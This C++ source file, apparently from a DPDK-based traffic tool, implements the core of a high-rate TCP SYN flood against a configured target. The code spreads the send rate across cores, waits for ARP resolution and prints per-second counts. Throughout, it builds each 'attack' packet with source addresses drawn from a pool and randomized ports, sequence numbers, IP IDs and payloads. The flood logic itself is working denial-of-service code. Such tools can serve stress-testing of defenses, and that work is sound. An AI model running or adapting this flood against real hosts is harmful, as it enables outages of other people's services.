#include "flood_handler.hh"

#include <cstring>

#include <rte_mbuf.h>

#include <algorithm>
#include <array>
#include <cinttypes>
#include <cstdio>

#include "core/engine.hh"
#include "dev/stop_signal.hh"

namespace kbt::flood {

namespace {

constexpr std::uint64_t kSecondNs = 1'000'000'000;
// Unresolved, one SYN every this long starts (and restarts) ARP resolution.
constexpr std::uint64_t kProbeIntervalNs = 200'000'000;
// At most this many SYNs owed: after a stall the flood resumes at its rate
// instead of making up for the stall in one burst.
constexpr double kMaxCredit = 4.0 * flood_handler::kMaxBurst;

std::uint64_t refusals(const core::core_counters& c) noexcept {
  return c.drops[static_cast<std::size_t>(core::drop_reason::tx_ring_full)].get() +
         c.drops[static_cast<std::size_t>(core::drop_reason::arp_queue_full)].get();
}

}  // namespace

std::uint64_t flood_run::sent() const noexcept {
  std::uint64_t n = 0;
  for (const auto& c : cores) n += c->sent.get();
  return n;
}

std::uint64_t flood_run::no_mbuf() const noexcept {
  std::uint64_t n = 0;
  for (const auto& c : cores) n += c->no_mbuf.get();
  return n;
}

std::uint64_t flood_run::refused() const noexcept {
  std::uint64_t n = 0;
  for (const auto& c : cores) n += c->refused.load(std::memory_order_relaxed);
  return n;
}

flood_handler::flood_handler(api::core_context& ctx, const flood_config& cfg, flood_run& run,
                             unsigned cores) noexcept
    : _cfg(&cfg),
      _run(&run),
      _tally(run.cores[ctx.core].get()),
      _sources(cfg.sources, cfg.own, cfg.target),
      _random(rte_rdtsc() ^ (std::uint64_t{ctx.core} << 56) ^ cfg.target.value),
      _next_hop(cfg.target),
      _rate_ns(cfg.rate / static_cast<double>(cores) / 1e9) {
  const auto& ec = ctx.engine->config();
  if (!ec.ip.contains(cfg.target) && ec.gateway) _next_hop = *ec.gateway;
}

void flood_handler::on_poll(api::core_context& ctx) noexcept {
  const std::uint64_t now = base::ns_since_start(ctx.now);
  if (_begin_ns == 0) {
    _begin_ns = now;
    _next_report_ns = now + kSecondNs;
  }
  if (ctx.core == 0 && now >= _next_report_ns) report(now);
  if (_done) {
    if (ctx.core == 0 && all_done()) dev::request_stop();
    return;
  }
  if (_start_ns == 0) {
    if (!target_ready(ctx)) return;
    _start_ns = now;
    _last_ns = now;
    _tally->first_ns.store(now, std::memory_order_relaxed);
  }
  if (now - _start_ns >= _cfg->duration_ns) return finish(now);

  std::uint32_t n = kMaxBurst;
  if (_rate_ns > 0) {
    _credit = std::min(kMaxCredit, _credit + static_cast<double>(now - _last_ns) * _rate_ns);
    n = static_cast<std::uint32_t>(std::min(_credit, double{kMaxBurst}));
    _credit -= n;
  }
  _last_ns = now;
  if (n > 0) send(ctx, n);
}

// The first SYNs wait in the ARP queue (the engine asks for the MAC); a
// target that does not answer within --arp-timeout stops the run.
bool flood_handler::target_ready(api::core_context& ctx) noexcept {
  const std::uint64_t now = base::ns_since_start(ctx.now);
  if (ctx.engine->neighbours().lookup(_next_hop, now) != nullptr) return true;
  if (now - _begin_ns >= _cfg->arp_timeout_ns) {
    _run->unresolved.store(true, std::memory_order_relaxed);
    finish(now);
    return false;
  }
  if (now >= _next_probe_ns) {
    _next_probe_ns = now + kProbeIntervalNs;
    send(ctx, 1);
  }
  return false;
}

void flood_handler::send(api::core_context& ctx, std::uint32_t n) noexcept {
  std::array<rte_mbuf*, kMaxBurst> m;
  if (rte_pktmbuf_alloc_bulk(ctx.pool, m.data(), n) != 0) {
    _tally->no_mbuf.add(n);
    return;
  }
  attack_spec s;
  s.dst = _cfg->target;
  s.dst_port = _cfg->port;
  for (std::uint32_t i = 0; i < n; ++i) {
    const std::uint64_t r1 = _random.next();
    const std::uint64_t r2 = _random.next();
    s.src = _sources.pick(r1);
    s.src_port = static_cast<std::uint16_t>(1024 + (r1 >> 32) % (65536 - 1024));
    s.seq = static_cast<std::uint32_t>(r2);
    s.ack = static_cast<std::uint32_t>(r2 >> 32) ^ static_cast<std::uint32_t>(r1);
    s.tsval = static_cast<std::uint32_t>(r2 >> 32);
    s.ip_id = static_cast<std::uint16_t>(r1 >> 48);
    s.payload_len = _cfg->payload_max == 0
                        ? 0
                        : static_cast<std::uint16_t>((r2 >> 16) % (_cfg->payload_max + 1U));
    s.payload_seed = r1 ^ r2;
    std::array<std::byte, kMaxAttackPacketLen> buf;
    const std::size_t len = write_attack(_cfg->kind, s, buf);
    auto* p = len == 0 ? nullptr
                       : reinterpret_cast<std::byte*>(
                             rte_pktmbuf_append(m[i], static_cast<std::uint16_t>(len)));
    if (p == nullptr) {
      rte_pktmbuf_free(m[i]);  // cannot happen with the default data room
      _tally->no_mbuf.add();
      continue;
    }
    std::memcpy(p, buf.data(), len);
    ctx.engine->send_ipv4(m[i], _cfg->target, ctx.now);
    _tally->sent.add();
  }
  // Refusals of earlier bursts (this one's come at the flush).
  _tally->refused.store(refusals(ctx.engine->counters()), std::memory_order_relaxed);
}

void flood_handler::finish(std::uint64_t now) noexcept {
  _done = true;
  _tally->last_ns.store(now, std::memory_order_relaxed);
  _tally->done.store(true, std::memory_order_release);
}

bool flood_handler::all_done() const noexcept {
  return std::all_of(_run->cores.begin(), _run->cores.end(),
                     [](const auto& c) { return c->done.load(std::memory_order_acquire); });
}

// Core 0's line each second, over all cores.
void flood_handler::report(std::uint64_t now) noexcept {
  _next_report_ns += kSecondNs;
  if (_next_report_ns <= now) _next_report_ns = now + kSecondNs;
  ++_seconds;
  const std::uint64_t sent = _run->sent();
  const std::uint64_t refused = _run->refused();
  std::printf("kbt-flood: %3us sent %" PRIu64 " SYNs/s, refused by the port %" PRIu64
              ", total %" PRIu64 "\n",
              _seconds, sent - _reported_sent, refused - _reported_refused, sent);
  std::fflush(stdout);
  _reported_sent = sent;
  _reported_refused = refused;
}

}  // namespace kbt::flood
